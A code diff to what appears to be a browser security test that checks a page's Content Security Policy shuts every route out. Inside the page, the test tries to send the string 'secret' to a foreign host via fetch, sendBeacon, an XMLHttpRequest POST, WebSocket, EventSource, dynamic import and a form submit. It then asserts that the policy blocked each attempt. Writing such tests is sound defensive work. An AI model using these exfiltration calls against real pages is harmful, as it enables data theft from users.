@@ -45,9 +45,13 @@ describe("a leak", () => {
   });
 
   test("from the page: every way out is shut", async () => {
-    const violations = await console.page.evaluate(async (foreign) => {
-      const violated: string[] = [];
-      document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
+    const { violations, connections } = await console.page.evaluate(async (foreign) => {
+      const violations: string[] = [];
+      const connections: string[] = [];
+      document.addEventListener("securitypolicyviolation", (event) => {
+        violations.push(event.effectiveDirective);
+        if (event.effectiveDirective === "connect-src") connections.push(new URL(event.blockedURI).pathname);
+      });
       const http = `http://${foreign}`;
       const refused = async (attempt: () => unknown): Promise<void> => {
         try {
@@ -58,7 +62,13 @@ describe("a leak", () => {
       };
       await refused(() => fetch(`${http}/fetch`, { method: "POST", body: "secret", mode: "no-cors" }));
       await refused(() => navigator.sendBeacon(`${http}/beacon`, "secret"));
-      await refused(() => new Promise((_, reject) => (new XMLHttpRequest().addEventListener("error", reject), reject())));
+      await refused(() => new Promise((resolve, reject) => {
+        const request = new XMLHttpRequest();
+        request.addEventListener("load", resolve);
+        request.addEventListener("error", reject);
+        request.open("POST", `${http}/xhr`);
+        request.send("secret");
+      }));
       await refused(() => new WebSocket(`ws://${foreign}/socket`));
       await refused(() => new EventSource(`${http}/events`));
       await refused(() => import(`${http}/module.js`));
@@ -83,9 +93,11 @@ describe("a leak", () => {
       document.body.append(form);
       form.submit();
       await new Promise((resolve) => setTimeout(resolve, 500));
-      return violated;
+      return { violations, connections: [...new Set(connections)].sort() };
     }, foreign);
     assert.deepEqual(heard, []);
+    // Each was tried, and it was the policy that refused it.
+    assert.deepEqual(connections, ["/beacon", "/events", "/fetch", "/socket", "/xhr"]);
     assert.equal(await console.page.evaluate(() => "pwned" in window), false);
     for (const directive of ["connect-src", "img-src", "script-src-elem", "style-src-elem", "style-src-attr", "frame-src", "object-src", "media-src", "worker-src", "form-action", "script-src"]) {
       assert.ok(violations.includes(directive), `${directive} was not violated: ${violations}`);
